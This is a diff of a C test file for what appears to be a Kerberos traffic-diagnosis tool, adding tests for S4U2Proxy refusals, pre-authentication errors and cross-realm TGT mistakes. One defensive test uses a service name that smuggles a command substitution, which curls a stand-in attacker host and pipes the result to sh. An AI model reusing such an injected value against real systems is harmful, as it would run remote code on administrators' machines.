@@ -87,12 +87,12 @@ static void s4u_self(struct kf_result *r, const char *front, const char *realm)
 	fx_link(r, 5, KF_KRB_TGS_REQ, 6, KF_KRB_TGS_REP);
 }
 
-/* S4U2Proxy request from the front end at frame f (to kdc). */
-static struct kf_message *s4u_proxy(struct kf_result *r, uint64_t f, const char *kdc, const char *sname,
-				    const char *realm, const char *ev_sname, const char *ev_realm,
-				    const char *tgt, const char *tgt_realm)
+/* S4U2Proxy request from src at frame f (to kdc). */
+static struct kf_message *s4u_proxy_from(struct kf_result *r, uint64_t f, const char *src, const char *kdc,
+					 const char *sname, const char *realm, const char *ev_sname,
+					 const char *ev_realm, const char *tgt, const char *tgt_realm)
 {
-	struct kf_message *m = fx_krb(r, f, KF_KRB_TGS_REQ, FE, kdc);
+	struct kf_message *m = fx_krb(r, f, KF_KRB_TGS_REQ, src, kdc);
 	m->krb.sname = sname;
 	m->krb.realm = realm;
 	m->krb.has_kdc_options = true;
@@ -101,6 +101,14 @@ static struct kf_message *s4u_proxy(struct kf_result *r, uint64_t f, const char 
 	m->krb.addl = fx_ticket(r, ev_sname, ev_realm, 18, 2);
 	m->krb.ticket = fx_ticket(r, tgt, tgt_realm, 18, 1);
 	return m;
+}
+
+/* S4U2Proxy request from the front end at frame f (to kdc). */
+static struct kf_message *s4u_proxy(struct kf_result *r, uint64_t f, const char *kdc, const char *sname,
+				    const char *realm, const char *ev_sname, const char *ev_realm,
+				    const char *tgt, const char *tgt_realm)
+{
+	return s4u_proxy_from(r, f, FE, kdc, sname, realm, ev_sname, ev_realm, tgt, tgt_realm);
 }
 
 static struct kf_message *krb_err(struct kf_result *r, uint64_t f, uint64_t req, const char *src,
@@ -125,6 +133,18 @@ static struct kf_message *tgs_rep(struct kf_result *r, uint64_t f, uint64_t req,
 	return m;
 }
 
+/* S4U2Self by front (frames 5/6), then its S4U2Proxy (frame 11, on the TGT
+ * tgt@front_realm) to kdc for sname@realm, refused in frame 14 with code and
+ * etext: the KRB-ERROR, to set more facts. */
+static struct kf_message *self_then_refused(struct kf_result *r, const char *front, const char *front_realm,
+					    const char *tgt, const char *kdc, const char *sname,
+					    const char *realm, int32_t code, const char *etext)
+{
+	s4u_self(r, front, front_realm);
+	s4u_proxy(r, 11, kdc, sname, realm, front, front_realm, tgt, front_realm);
+	return krb_err(r, 14, 11, kdc, FE, code, etext);
+}
+
 /* ---- s4u-denied ---------------------------------------------------------------- */
 
 START_TEST(t_s4u_proxy_denied)
@@ -137,7 +157,9 @@ START_TEST(t_s4u_proxy_denied)
 	e->krb.cname = "HTTP/front.lab.test";
 	e->krb.crealm = "LAB.TEST";
 	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
-	ck_assert_str_eq(f->cause, "target-not-allowed");
+	/* MIT's UNSUPPORTED_S4U2PROXY_REQUEST, no grant by that KDC in the
+	 * capture: DB2 (no rules at all) or an LDAP list that lacks the target */
+	ck_assert_str_eq(f->cause, "no-delegation-rule");
 	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
 	ck_assert(fx_has_frame(f, 5) && fx_has_frame(f, 6) && fx_has_frame(f, 11) && fx_has_frame(f, 14));
 	subject_is(f, KF_SUBJECT_CLIENT, "10.0.0.30", NULL);
@@ -145,8 +167,194 @@ START_TEST(t_s4u_proxy_denied)
 	subject_is(f, KF_SUBJECT_SERVICE, "HTTP/db.lab.test@LAB.TEST", "HTTP/front.lab.test@LAB.TEST", NULL);
 	subject_is(f, KF_SUBJECT_SERVER, NULL);
 	subject_is(f, KF_SUBJECT_KDC, "10.0.0.2", NULL);
-	/* wording: the remediation names the attribute to change */
-	ck_assert(contains(f->remediation, "msDS-AllowedToDelegateTo"));
+	/* wording: both set-ups and their fixes, with the capture's names */
+	ck_assert(contains(f->explanation, "DB2"));
+	ck_assert(contains(f->remediation, "LDAP database (db_library = kldap)"));
+	ck_assert(contains(f->remediation,
+			   "krbAllowedToDelegateTo: HTTP/db.lab.test@LAB.TEST on the LDAP entry of "
+			   "HTTP/front.lab.test@LAB.TEST"));
+	fx_free(r);
+}
+END_TEST
+
+/* UNSUPPORTED_S4U2PROXY_REQUEST from a KDC that granted another S4U2Proxy in
+ * the capture: it keeps rules (not DB2), so the target is not allowed. */
+START_TEST(t_s4u_unsupported_after_grant)
+{
+	struct kf_result *r = fx_new();
+	s4u_self(r, "HTTP/front.lab.test", "LAB.TEST");
+	s4u_proxy(r, 7, KDC, "HTTP/back.lab.test", "LAB.TEST", "HTTP/front.lab.test", "LAB.TEST",
+		  "krbtgt/LAB.TEST", "LAB.TEST");
+	tgs_rep(r, 8, 7, KDC, FE, "alice", "LAB.TEST", "HTTP/back.lab.test", "LAB.TEST");
+	s4u_proxy(r, 11, KDC, "HTTP/db.lab.test", "LAB.TEST", "HTTP/front.lab.test", "LAB.TEST",
+		  "krbtgt/LAB.TEST", "LAB.TEST");
+	krb_err(r, 14, 11, KDC, FE, 13, "UNSUPPORTED_S4U2PROXY_REQUEST");
+	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
+	ck_assert_str_eq(f->cause, "target-not-allowed");
+	ck_assert(fx_has_frame(f, 11) && fx_has_frame(f, 14) && !fx_has_frame(f, 7));
+	ck_assert(contains(f->explanation, "granted another S4U2Proxy"));
+	ck_assert(contains(f->remediation, "krbAllowedToDelegateTo: HTTP/db.lab.test@LAB.TEST"));
+	ck_assert(!contains(f->remediation, "DB2"));
+	fx_free(r);
+}
+END_TEST
+
+/* Near miss: the grant came from another KDC (another address): it says
+ * nothing of the refusing one's database. */
+START_TEST(t_s4u_unsupported_grant_elsewhere)
+{
+	struct kf_result *r = fx_new();
+	s4u_self(r, "HTTP/front.lab.test", "LAB.TEST");
+	s4u_proxy(r, 7, KDC2, "HTTP/back.lab.test", "LAB.TEST", "HTTP/front.lab.test", "LAB.TEST",
+		  "krbtgt/LAB.TEST", "LAB.TEST");
+	tgs_rep(r, 8, 7, KDC2, FE, "alice", "LAB.TEST", "HTTP/back.lab.test", "LAB.TEST");
+	s4u_proxy(r, 11, KDC, "HTTP/db.lab.test", "LAB.TEST", "HTTP/front.lab.test", "LAB.TEST",
+		  "krbtgt/LAB.TEST", "LAB.TEST");
+	krb_err(r, 14, 11, KDC, FE, 13, "UNSUPPORTED_S4U2PROXY_REQUEST");
+	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
+	ck_assert_str_eq(f->cause, "no-delegation-rule");
+	fx_free(r);
+}
+END_TEST
+
+/* MIT's NOT_ALLOWED_TO_DELEGATE: a delegation rule refused. */
+START_TEST(t_s4u_not_allowed_to_delegate)
+{
+	struct kf_result *r = fx_new();
+	struct kf_message *e =
+		self_then_refused(r, "HTTP/front.lab.test", "LAB.TEST", "krbtgt/LAB.TEST", KDC,
+				  "HTTP/db.lab.test", "LAB.TEST", 13, "NOT_ALLOWED_TO_DELEGATE");
+	e->krb.cname = "HTTP/front.lab.test";
+	e->krb.crealm = "LAB.TEST";
+	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
+	ck_assert_str_eq(f->cause, "target-not-allowed");
+	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
+	ck_assert(contains(f->remediation,
+			   "krbAllowedToDelegateTo: HTTP/db.lab.test@LAB.TEST on the LDAP entry of "
+			   "HTTP/front.lab.test@LAB.TEST"));
+	ck_assert(!contains(f->explanation, "granted another S4U2Proxy"));
+	fx_free(r);
+}
+END_TEST
+
+/* MIT's NO PREAUTH on S4U2Proxy: the target requires pre-authentication and
+ * the front end's TGT has none. */
+START_TEST(t_s4u_target_requires_preauth)
+{
+	struct kf_result *r = fx_new();
+	struct kf_message *e = self_then_refused(r, "HTTP/front.lab.test", "LAB.TEST", "krbtgt/LAB.TEST", KDC,
+						 "HTTP/pa.lab.test", "LAB.TEST", 60, "NO PREAUTH");
+	e->krb.cname = "HTTP/front.lab.test";
+	e->krb.crealm = "LAB.TEST";
+	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
+	ck_assert_str_eq(f->cause, "target-requires-preauth");
+	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
+	ck_assert(fx_has_frame(f, 5) && fx_has_frame(f, 6) && fx_has_frame(f, 11) && fx_has_frame(f, 14));
+	ck_assert(contains(f->explanation, "requires pre-authentication"));
+	ck_assert(contains(f->remediation, "modprinc +requires_preauth HTTP/front.lab.test@LAB.TEST"));
+	ck_assert(contains(f->remediation, "HTTP/pa.lab.test@LAB.TEST"));
+	fx_free(r);
+}
+END_TEST
+
+/* NO PREAUTH on an S4U2Self: the front end's own principal requires
+ * pre-authentication and its TGT predates that: a new login is the fix. */
+START_TEST(t_s4u_self_no_preauth)
+{
+	struct kf_result *r = fx_new();
+	s4u_self(r, "HTTP/front.lab.test", "LAB.TEST");
+	struct kf_message *rep6 = msg_at(r, 6, KF_KRB_TGS_REP);
+	rep6->type = KF_KRB_ERROR; /* the S4U2Self refused instead */
+	rep6->krb.error_code = 60;
+	rep6->krb.e_text = "NO PREAUTH";
+	rep6->krb.cname = "HTTP/front.lab.test";
+	rep6->krb.crealm = "LAB.TEST";
+	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
+	ck_assert_str_eq(f->cause, "target-requires-preauth");
+	ck_assert(contains(f->summary, "S4U2Self by HTTP/front.lab.test@LAB.TEST"));
+	ck_assert(contains(f->remediation, "log in again (kinit -k as HTTP/front.lab.test@LAB.TEST)"));
+	ck_assert(!contains(f->remediation, "modprinc +requires_preauth"));
+	fx_free(r);
+}
+END_TEST
+
+/* A hostile target name is not put into the fix's commands. */
+START_TEST(t_s4u_fix_hostile_name)
+{
+	struct kf_result *r = fx_new();
+	const char *evil = "HTTP/web$(curl${IFS}-s${IFS}evil.example|sh).lab.test";
+	struct kf_message *e = self_then_refused(r, "HTTP/front.lab.test", "LAB.TEST", "krbtgt/LAB.TEST", KDC,
+						 evil, "LAB.TEST", 13, "UNSUPPORTED_S4U2PROXY_REQUEST");
+	e->krb.cname = "HTTP/front.lab.test";
+	e->krb.crealm = "LAB.TEST";
+	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
+	ck_assert(contains(f->remediation, "krbAllowedToDelegateTo: <name> on the LDAP entry of "
+					   "HTTP/front.lab.test@LAB.TEST"));
+	ck_assert(contains(f->remediation, "Note: the name"));
+	ck_assert(!contains(f->remediation, "krbAllowedToDelegateTo: HTTP/web$("));
+	fx_free(r);
+}
+END_TEST
+
+/* Two service accounts of one host, both refused: two findings, each
+ * naming its own account (MIT names it in the error's cname). */
+START_TEST(t_s4u_two_accounts_one_host)
+{
+	struct kf_result *r = fx_new();
+	const char *acct[2] = { "HTTP/svc-a.lab.test", "HTTP/svc-b.lab.test" };
+	for (int i = 0; i < 2; i++) {
+		uint64_t f0 = 11 + 10 * (uint64_t)i;
+		s4u_proxy(r, f0, KDC, "HTTP/db.lab.test", "LAB.TEST", acct[i], "LAB.TEST", "krbtgt/LAB.TEST",
+			  "LAB.TEST");
+		struct kf_message *e = krb_err(r, f0 + 3, f0, KDC, FE, 13, "UNSUPPORTED_S4U2PROXY_REQUEST");
+		e->krb.cname = acct[i];
+		e->krb.crealm = "LAB.TEST";
+	}
+	fx_finish(r);
+	fx_run(r, "s4u-denied");
+	ck_assert_uint_eq(fx_count(r, "s4u-denied", KF_SEV_ERROR), 2);
+	for (size_t i = 0; i < r->n_findings; i++) {
+		const struct kf_finding *f = &r->findings[i];
+		check_finding(f);
+		ck_assert(contains(f->summary, acct[i]) && !contains(f->summary, acct[1 - i]));
+		ck_assert(fx_has_frame(f, 11 + 10 * i) && !fx_has_frame(f, 21 - 10 * i));
+		subject_is(f, KF_SUBJECT_CLIENT, "10.0.0.30", NULL);
+		ck_assert(
+			fx_subject_has(f, KF_SUBJECT_SERVICE,
+				       i ? "HTTP/svc-b.lab.test@LAB.TEST" : "HTTP/svc-a.lab.test@LAB.TEST"));
+		ck_assert(!contains(f->summary, "(repeated)"));
+	}
+	fx_free(r);
+}
+END_TEST
+
+/* Without a cname in the error (Windows, Samba) the account is the evidence
+ * ticket's service; one account from two hosts is one finding naming both. */
+START_TEST(t_s4u_one_account_two_hosts)
+{
+	struct kf_result *r = fx_new();
+	s4u_proxy(r, 11, KDC, "cifs/files.ad.lab.test", "AD.LAB.TEST", "websvc", "AD.LAB.TEST",
+		  "krbtgt/AD.LAB.TEST", "AD.LAB.TEST");
+	krb_err(r, 12, 11, KDC, FE, 13, NULL);
+	s4u_proxy_from(r, 13, "10.0.0.31:41000", KDC, "cifs/files.ad.lab.test", "AD.LAB.TEST", "websvc",
+		       "AD.LAB.TEST", "krbtgt/AD.LAB.TEST", "AD.LAB.TEST");
+	krb_err(r, 14, 13, KDC, "10.0.0.31:41000", 13, NULL);
+	/* another account on the first host: a finding of its own */
+	s4u_proxy(r, 15, KDC, "cifs/files.ad.lab.test", "AD.LAB.TEST", "appsvc", "AD.LAB.TEST",
+		  "krbtgt/AD.LAB.TEST", "AD.LAB.TEST");
+	krb_err(r, 16, 15, KDC, FE, 13, NULL);
+	fx_finish(r);
+	fx_run(r, "s4u-denied");
+	ck_assert_uint_eq(fx_count(r, "s4u-denied", KF_SEV_ERROR), 2);
+	const struct kf_finding *f = &r->findings[0];
+	check_finding(f);
+	ck_assert(contains(f->summary, "websvc (10.0.0.30, 10.0.0.31)"));
+	ck_assert(contains(f->summary, "(repeated)"));
+	ck_assert(fx_has_frame(f, 11) && fx_has_frame(f, 14) && !fx_has_frame(f, 15));
+	subject_is(f, KF_SUBJECT_CLIENT, "10.0.0.30", "10.0.0.31", NULL);
+	f = &r->findings[1];
+	ck_assert(contains(f->summary, "appsvc (10.0.0.30)"));
+	ck_assert(fx_has_frame(f, 15) && !fx_has_frame(f, 11));
 	fx_free(r);
 }
 END_TEST
@@ -428,6 +636,110 @@ START_TEST(t_xr_success)
 	fx_finish(r);
 	fx_run_all(r);
 	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
+	fx_free(r);
+}
+END_TEST
+
+/* MIT 1.20 with the target's realm spelled out: the S4U2Proxy rides on the
+ * front end's own TGT (krbtgt/S4U.TEST@S4U.TEST) straight to OTHER.TEST's
+ * KDC, which cannot read it (KDC_ERR_S_PRINCIPAL_UNKNOWN, PROCESS_TGS). */
+START_TEST(t_xr_tgt_wrong_realm)
+{
+	struct kf_result *r = fx_new();
+	self_then_refused(r, "HTTP/front.s4u.test", "S4U.TEST", "krbtgt/S4U.TEST", KDC2,
+			  "HTTP/app.other.test", "OTHER.TEST", 7, "PROCESS_TGS");
+	fx_finish(r);
+	fx_run_all(r);
+	ck_assert_uint_eq(fx_count(r, "cross-realm-s4u", KF_SEV_ERROR), 1);
+	ck_assert_uint_eq(fx_count(r, "s4u-denied", 0), 0);
+	const struct kf_finding *f = fx_find(r, "cross-realm-s4u");
+	check_finding(f);
+	ck_assert_str_eq(f->cause, "tgt-wrong-realm");
+	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
+	ck_assert(fx_has_frame(f, 5) && fx_has_frame(f, 6) && fx_has_frame(f, 11) && fx_has_frame(f, 14));
+	ck_assert(contains(f->summary,
+			   "its S4U.TEST TGT went to the KDC at 10.0.0.40, asked as OTHER.TEST's KDC"));
+	ck_assert(contains(f->explanation, "not about the back-end SPN"));
+	ck_assert(!contains(f->explanation, "That realm's KDC refused it"));
+	ck_assert(contains(f->remediation, "without a realm"));
+	subject_is(f, KF_SUBJECT_SERVICE, "HTTP/app.other.test@OTHER.TEST", "HTTP/front.s4u.test@S4U.TEST",
+		   NULL);
+	subject_is(f, KF_SUBJECT_KDC, "10.0.0.2", "10.0.0.40", NULL);
+	fx_free(r);
+}
+END_TEST
+
+/* Samba (Heimdal) answers a foreign realm's TGT with KRB_AP_ERR_NOT_US, no
+ * e-text, no cname. */
+START_TEST(t_xr_tgt_wrong_realm_not_us)
+{
+	struct kf_result *r = fx_new();
+	self_then_refused(r, "HTTP/front.s4u.test", "S4U.TEST", "krbtgt/S4U.TEST", KDC2,
+			  "HTTP/web.ad.lab.test", "AD.LAB.TEST", 35, NULL);
+	const struct kf_finding *f = one_finding(r, "cross-realm-s4u", KF_SEV_ERROR);
+	ck_assert_str_eq(f->cause, "tgt-wrong-realm");
+	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
+	ck_assert(contains(f->explanation, "the request's ticket is not for it (KRB_AP_ERR_NOT_US)"));
+	ck_assert(contains(f->summary, "asked as AD.LAB.TEST's KDC"));
+	fx_free(r);
+}
+END_TEST
+
+/* The same without MIT's e-text: the refusing KDC issued another realm's
+ * ticket in the capture, so it is not the TGT's realm's KDC. */
+START_TEST(t_xr_tgt_wrong_realm_by_issuer)
+{
+	struct kf_result *r = fx_new();
+	s4u_self(r, "HTTP/front.s4u.test", "S4U.TEST");
+	struct kf_message *m = fx_krb(r, 7, KF_KRB_TGS_REQ, CL, KDC2);
+	m->krb.sname = "HTTP/app.other.test";
+	m->krb.realm = "OTHER.TEST";
+	tgs_rep(r, 8, 7, KDC2, CL, "bob", "OTHER.TEST", "HTTP/app.other.test", "OTHER.TEST");
+	s4u_proxy(r, 11, KDC2, "HTTP/app.other.test", "OTHER.TEST", "HTTP/front.s4u.test", "S4U.TEST",
+		  "krbtgt/S4U.TEST", "S4U.TEST");
+	krb_err(r, 14, 11, KDC2, FE, 7, NULL);
+	const struct kf_finding *f = one_finding(r, "cross-realm-s4u", KF_SEV_ERROR);
+	ck_assert_str_eq(f->cause, "tgt-wrong-realm");
+	ck_assert(contains(f->explanation, "issues tickets of another realm than S4U.TEST"));
+	fx_free(r);
+}
+END_TEST
+
+/* Near misses by table: a refusal after S4U2Self whose e-text or KDC does
+ * not name the new causes keeps the rule's ordinary cause. */
+static const struct {
+	const char *front, *front_realm, *tgt, *kdc, *sname, *realm;
+	int32_t code;
+	const char *etext, *rule, *cause;
+} REFUSALS[] = {
+	/* KRB_ERR_GENERIC with another e-text: no pre-authentication matter */
+	{ "HTTP/front.lab.test", "LAB.TEST", "krbtgt/LAB.TEST", KDC, "HTTP/pa.lab.test", "LAB.TEST", 60,
+	  "NO HW PREAUTH_X", "s4u-denied", "s4u2proxy-refused" },
+	/* the front end's own KDC (it issued S4U.TEST tickets) refuses a request
+	 * for another realm's service: the ordinary cross-realm refusal */
+	{ "HTTP/front.s4u.test", "S4U.TEST", "krbtgt/S4U.TEST", KDC, "HTTP/app.other.test", "OTHER.TEST", 7,
+	  "LOOKING_UP_SERVER", "cross-realm-s4u", "cross-realm-refused" },
+	/* NOT_US to a request riding on a cross-realm TGT (krbtgt/OTHER.TEST@S4U.TEST), not the
+	 * realm's own: the referral path, refused there */
+	{ "HTTP/front.s4u.test", "S4U.TEST", "krbtgt/OTHER.TEST", KDC2, "HTTP/app.other.test", "OTHER.TEST",
+	  35, NULL, "cross-realm-s4u", "cross-realm-refused" },
+	/* PROCESS_TGS from the own KDC for a service of its own realm: not cross-realm at all */
+	{ "HTTP/front.s4u.test", "S4U.TEST", "krbtgt/S4U.TEST", KDC, "HTTP/db.s4u.test", "S4U.TEST", 7,
+	  "PROCESS_TGS", "s4u-denied", "s4u2proxy-refused" },
+};
+
+START_TEST(t_refusal_near_misses)
+{
+	struct kf_result *r = fx_new();
+	self_then_refused(r, REFUSALS[_i].front, REFUSALS[_i].front_realm, REFUSALS[_i].tgt, REFUSALS[_i].kdc,
+			  REFUSALS[_i].sname, REFUSALS[_i].realm, REFUSALS[_i].code, REFUSALS[_i].etext);
+	fx_finish(r);
+	fx_run_all(r);
+	ck_assert_uint_eq(fx_count(r, NULL, 0), 1);
+	const struct kf_finding *f = fx_find(r, REFUSALS[_i].rule);
+	ck_assert_ptr_nonnull(f);
+	check_finding(f);
+	ck_assert_str_eq(f->cause, REFUSALS[_i].cause);
 	fx_free(r);
 }
 END_TEST
@@ -1180,6 +1492,14 @@ int main(void)
 	Suite *s = suite_create("rules_deleg");
 	TCase *a = tcase_create("s4u-denied");
 	tcase_add_test(a, t_s4u_proxy_denied);
+	tcase_add_test(a, t_s4u_unsupported_after_grant);
+	tcase_add_test(a, t_s4u_unsupported_grant_elsewhere);
+	tcase_add_test(a, t_s4u_not_allowed_to_delegate);
+	tcase_add_test(a, t_s4u_target_requires_preauth);
+	tcase_add_test(a, t_s4u_two_accounts_one_host);
+	tcase_add_test(a, t_s4u_fix_hostile_name);
+	tcase_add_test(a, t_s4u_self_no_preauth);
+	tcase_add_test(a, t_s4u_one_account_two_hosts);
 	tcase_add_test(a, t_s4u_evidence_not_forwardable);
 	tcase_add_test(a, t_s4u_bare_badoption);
 	tcase_add_test(a, t_s4u_allowed);
@@ -1196,6 +1516,10 @@ int main(void)
 	tcase_add_test(b, t_xr_referral_only_is_likely);
 	tcase_add_test(b, t_xr_success);
 	tcase_add_test(b, t_xr_plain_referral);
+	tcase_add_test(b, t_xr_tgt_wrong_realm);
+	tcase_add_test(b, t_xr_tgt_wrong_realm_by_issuer);
+	tcase_add_test(b, t_xr_tgt_wrong_realm_not_us);
+	tcase_add_loop_test(b, t_refusal_near_misses, 0, (int)(sizeof REFUSALS / sizeof REFUSALS[0]));
 	suite_add_tcase(s, b);
 	TCase *c = tcase_create("missing-forwarded-tgt");
 	tcase_add_test(c, t_fwd_works);
